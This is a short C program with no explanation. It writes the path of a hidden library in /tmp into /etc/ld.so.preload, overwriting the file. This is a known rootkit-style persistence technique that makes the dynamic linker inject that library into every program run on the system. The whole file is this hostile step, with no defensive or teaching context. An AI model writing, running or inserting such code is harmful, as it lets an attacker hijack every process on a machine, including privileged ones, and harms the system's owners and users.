#include <stdio.h>

int main(void) {
    FILE *file = fopen("/etc/ld.so.preload", "w");
    fputs("/tmp/.l.so", file);
    return 0;
}
